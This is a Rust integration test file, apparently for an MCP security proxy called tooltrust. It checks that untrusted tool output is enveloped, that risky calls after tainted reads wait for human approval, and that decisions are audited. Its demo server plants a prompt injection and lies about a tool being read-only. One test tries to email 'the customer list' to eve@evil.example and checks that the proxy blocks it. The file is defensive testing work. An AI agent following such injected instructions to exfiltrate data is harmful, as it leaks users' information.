@@ -1,0 +1,365 @@
+//! `tooltrust mcp proxy` end to end: the proxy runs as a child process over stdio, started
+//! by an rmcp client in the test, and fronts real MCP server processes
+//! (`tooltrust mcp demo-server`, which returns a prompt injection and lies about
+//! `send_email` being read-only).
+
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use rmcp::model::{
+    CallToolRequestParams, CallToolResult, ClientCapabilities, ClientConfig, ElicitRequestParams,
+    ElicitResult, ElicitationAction, ElicitationCapability,
+};
+use rmcp::service::{RequestContext, RoleClient, RunningService};
+use rmcp::transport::TokioChildProcess;
+use rmcp::{ClientHandler, ErrorData, ServiceExt};
+use serde_json::{Value, json};
+use tokio::process::Command;
+
+const TOOLTRUST: &str = env!("CARGO_BIN_EXE_tooltrust");
+
+/// The person at the MCP client: answers every elicitation the same way, and counts them.
+#[derive(Clone)]
+struct Person {
+    approve: Option<bool>,
+    asked: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+impl ClientHandler for Person {
+    fn get_info(&self) -> ClientConfig {
+        let mut capabilities = ClientCapabilities::default();
+        if self.approve.is_some() {
+            capabilities.elicitation = Some(ElicitationCapability::new());
+        }
+        ClientConfig::new(capabilities, rmcp::model::Implementation::from_build_env())
+    }
+
+    async fn create_elicitation(
+        &self,
+        request: ElicitRequestParams,
+        _context: RequestContext<RoleClient>,
+    ) -> Result<ElicitResult, ErrorData> {
+        if let ElicitRequestParams::FormElicitationParams { message, .. } = &request {
+            self.asked.lock().expect("the lock").push(message.clone());
+        }
+        Ok(match self.approve {
+            Some(true) => {
+                ElicitResult::new(ElicitationAction::Accept).with_content(json!({"approve": true}))
+            }
+            _ => ElicitResult::new(ElicitationAction::Decline),
+        })
+    }
+}
+
+/// A configuration fronting two demo servers, in `dir`.
+fn config(dir: &Path, outbox: &Path, extra: &str) -> PathBuf {
+    let demo = |name: &str| {
+        format!(
+            r#"
+[[upstream]]
+name = "{name}"
+command = [{TOOLTRUST:?}, "mcp", "demo-server"]
+env = {{ TOOLTRUST_DEMO_OUTBOX = {outbox:?} }}
+
+[upstream.tools]
+"fetch_*" = {{ trust = "untrusted", read_only = true }}
+"lookup_policy" = {{ trust = "trusted", read_only = true }}
+"send_*" = {{ trust = "trusted" }}
+"crash" = {{ trust = "untrusted", read_only = true }}
+"#
+        )
+    };
+    let text = format!(
+        "audit_log = \"audit\"\n{extra}\n{}{}",
+        demo("web"),
+        demo("mail")
+    );
+    let path = dir.join("tooltrust-mcp.toml");
+    std::fs::write(&path, text).expect("the config is written");
+    path
+}
+
+async fn proxy(config: &Path, person: Person) -> RunningService<RoleClient, Person> {
+    let mut command = Command::new(TOOLTRUST);
+    // Another directory than the config's: the audit log must follow the config.
+    command
+        .args(["mcp", "proxy", "--config"])
+        .arg(config)
+        .current_dir(std::env::temp_dir());
+    let (transport, _) = TokioChildProcess::builder(command)
+        .stderr(Stdio::inherit())
+        .spawn()
+        .expect("the proxy starts");
+    person.serve(transport).await.expect("the handshake")
+}
+
+async fn call(
+    client: &RunningService<RoleClient, Person>,
+    name: &str,
+    args: Value,
+) -> CallToolResult {
+    let Value::Object(args) = args else {
+        panic!("an object")
+    };
+    client
+        .call_tool(CallToolRequestParams::new(name.to_owned()).with_arguments(args))
+        .await
+        .expect("a tools/call answer")
+}
+
+fn text(result: &CallToolResult) -> String {
+    result
+        .content
+        .iter()
+        .filter_map(|block| block.as_text().map(|text| text.text.clone()))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+fn sent(outbox: &Path) -> usize {
+    std::fs::read_to_string(outbox)
+        .map(|text| text.lines().count())
+        .unwrap_or(0)
+}
+
+fn person(approve: Option<bool>) -> Person {
+    Person {
+        approve,
+        asked: std::sync::Arc::default(),
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_proxy_guards_a_session_and_asks_the_person() {
+    let dir = tempfile::tempdir().expect("a temp dir");
+    let outbox = dir.path().join("outbox.txt");
+    let config = config(dir.path(), &outbox, "");
+    let approver = person(Some(true));
+    let client = proxy(&config, approver.clone()).await;
+
+    // The union of the upstreams' tools, namespaced, with the host's annotations.
+    let tools = client.list_all_tools().await.expect("tools/list");
+    let names: Vec<&str> = tools.iter().map(|tool| &*tool.name).collect();
+    for name in [
+        "web__fetch_page",
+        "web__send_email",
+        "mail__send_email",
+        "mail__crash",
+    ] {
+        assert!(names.contains(&name), "{names:?}");
+    }
+    let send = tools
+        .iter()
+        .find(|tool| tool.name == "web__send_email")
+        .expect("listed");
+    let hints = send.annotations.as_ref().expect("annotations");
+    assert_eq!(
+        hints.read_only_hint,
+        Some(false),
+        "the upstream's claim is not believed"
+    );
+    assert_eq!(hints.destructive_hint, Some(true));
+
+    // A trusted read: allowed.
+    let policy = call(&client, "web__lookup_policy", json!({})).await;
+    assert_ne!(policy.is_error, Some(true), "{}", text(&policy));
+    assert!(
+        text(&policy).starts_with("<trusted_content_"),
+        "{}",
+        text(&policy)
+    );
+
+    // An untrusted read: enveloped, every byte of it.
+    let page = call(
+        &client,
+        "web__fetch_page",
+        json!({"url": "https://shop.example"}),
+    )
+    .await;
+    let page_text = text(&page);
+    assert!(page_text.starts_with("<untrusted_content_"), "{page_text}");
+    assert!(page_text.contains("eve@evil.example"), "{page_text}");
+    assert_eq!(
+        tooltrust::envelope::parse(&page_text).map(|b| b.len()).ok(),
+        Some(1)
+    );
+    assert!(page.structured_content.is_none());
+
+    // Consequential after the taint: held, the person is asked, approves, it runs once.
+    let send = call(
+        &client,
+        "web__send_email",
+        json!({"to": "ann@example.com", "body": "X1: 49 EUR"}),
+    )
+    .await;
+    assert_ne!(send.is_error, Some(true), "{}", text(&send));
+    assert!(
+        text(&send).contains("sent to ann@example.com"),
+        "{}",
+        text(&send)
+    );
+    assert_eq!(sent(&outbox), 1);
+    let asked = approver.asked.lock().expect("the lock").clone();
+    assert_eq!(asked.len(), 1);
+    for needle in [
+        "send_email",
+        "ann@example.com",
+        "tainted-consequential",
+        "Kettle X1",
+    ] {
+        assert!(asked[0].contains(needle), "{needle:?} not in {}", asked[0]);
+    }
+
+    // Unknown tools and bare upstream names: denied, as tool errors.
+    for name in ["send_email", "web__drop_tables"] {
+        let unknown = call(&client, name, json!({})).await;
+        assert_eq!(unknown.is_error, Some(true), "{name}");
+        assert!(
+            text(&unknown).contains("unknown-tool"),
+            "{}",
+            text(&unknown)
+        );
+    }
+
+    // An upstream that crashes: a typed error, and the other upstream keeps serving.
+    let crashed = call(&client, "mail__crash", json!({})).await;
+    assert_eq!(crashed.is_error, Some(true), "{}", text(&crashed));
+    let after = call(&client, "mail__lookup_policy", json!({})).await;
+    assert!(text(&after).contains("MCP server"), "{}", text(&after));
+    let still = call(&client, "web__lookup_policy", json!({})).await;
+    assert_ne!(still.is_error, Some(true), "{}", text(&still));
+
+    client.cancel().await.expect("the client stops");
+    // Every decision is in the audit log beside the config, and it verifies.
+    let log = dir.path().join("audit").join("audit.jsonl");
+    let verified = std::process::Command::new(TOOLTRUST)
+        .args(["audit", "verify"])
+        .arg(&log)
+        .output()
+        .expect("tooltrust runs");
+    let report = String::from_utf8_lossy(&verified.stdout);
+    assert!(
+        verified.status.success(),
+        "{report}{}",
+        String::from_utf8_lossy(&verified.stderr)
+    );
+    assert!(report.starts_with("ok: "), "{report}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_declined_or_unaskable_held_call_never_runs() {
+    for approve in [Some(false), None] {
+        let dir = tempfile::tempdir().expect("a temp dir");
+        let outbox = dir.path().join("outbox.txt");
+        let config = config(dir.path(), &outbox, "");
+        let client = proxy(&config, person(approve)).await;
+        call(
+            &client,
+            "web__fetch_page",
+            json!({"url": "https://shop.example"}),
+        )
+        .await;
+        let send = call(
+            &client,
+            "web__send_email",
+            json!({"to": "eve@evil.example", "body": "the customer list"}),
+        )
+        .await;
+        assert_eq!(send.is_error, Some(true), "{}", text(&send));
+        let expected = if approve.is_some() {
+            "declined"
+        } else {
+            "held for review"
+        };
+        assert!(text(&send).contains(expected), "{}", text(&send));
+        assert_eq!(sent(&outbox), 0);
+        client.cancel().await.expect("the client stops");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn observe_mode_records_but_lets_known_calls_through() {
+    let dir = tempfile::tempdir().expect("a temp dir");
+    let outbox = dir.path().join("outbox.txt");
+    let config = config(dir.path(), &outbox, "mode = \"observe\"");
+    let client = proxy(&config, person(None)).await;
+    call(
+        &client,
+        "web__fetch_page",
+        json!({"url": "https://shop.example"}),
+    )
+    .await;
+    let send = call(
+        &client,
+        "web__send_email",
+        json!({"to": "ann@example.com", "body": "hi"}),
+    )
+    .await;
+    assert_ne!(send.is_error, Some(true), "observe mode: {}", text(&send));
+    assert_eq!(sent(&outbox), 1);
+    let unknown = call(&client, "web__nope", json!({})).await;
+    assert_eq!(
+        unknown.is_error,
+        Some(true),
+        "unknown tools still fail closed"
+    );
+    client.cancel().await.expect("the client stops");
+    let log =
+        std::fs::read_to_string(dir.path().join("audit").join("audit.jsonl")).expect("the log");
+    assert!(
+        log.contains("observe mode"),
+        "the would-be decision is recorded"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_loop_breaker_denies_a_repeated_call() {
+    let dir = tempfile::tempdir().expect("a temp dir");
+    let outbox = dir.path().join("outbox.txt");
+    let config = config(dir.path(), &outbox, "max_repeats = 1");
+    let client = proxy(&config, person(None)).await;
+    let first = call(&client, "web__lookup_policy", json!({})).await;
+    assert_ne!(first.is_error, Some(true), "{}", text(&first));
+    let again = call(&client, "web__lookup_policy", json!({})).await;
+    assert_eq!(again.is_error, Some(true), "{}", text(&again));
+    assert!(
+        text(&again).contains(tooltrust::gate::rule::REPEATED),
+        "{}",
+        text(&again)
+    );
+    client.cancel().await.expect("the client stops");
+}
+
+#[test]
+fn a_bad_config_stops_the_proxy_at_start_with_the_line() {
+    let dir = tempfile::tempdir().expect("a temp dir");
+    let path = dir.path().join("bad.toml");
+    std::fs::write(
+        &path,
+        "audit_log = \"audit\"\n\n[[upstream]]\nname = \"web\"\ncommand = [\"x\"]\n[upstream.tools]\n\"fetch_*\" = { trust = \"sometimes\" }\n",
+    )
+    .expect("written");
+    let started = Instant::now();
+    // Its stdin stays open, as a host's would.
+    let mut child = std::process::Command::new(TOOLTRUST)
+        .args(["mcp", "proxy", "--config"])
+        .arg(&path)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("started");
+    let status = loop {
+        if let Some(status) = child.try_wait().expect("waited") {
+            break status;
+        }
+        assert!(started.elapsed() < Duration::from_secs(10), "still running");
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    let output = child.wait_with_output().expect("its output");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(!status.success());
+    assert!(stderr.contains("line 7"), "{stderr}");
+    assert!(stderr.contains("sometimes"), "{stderr}");
+}
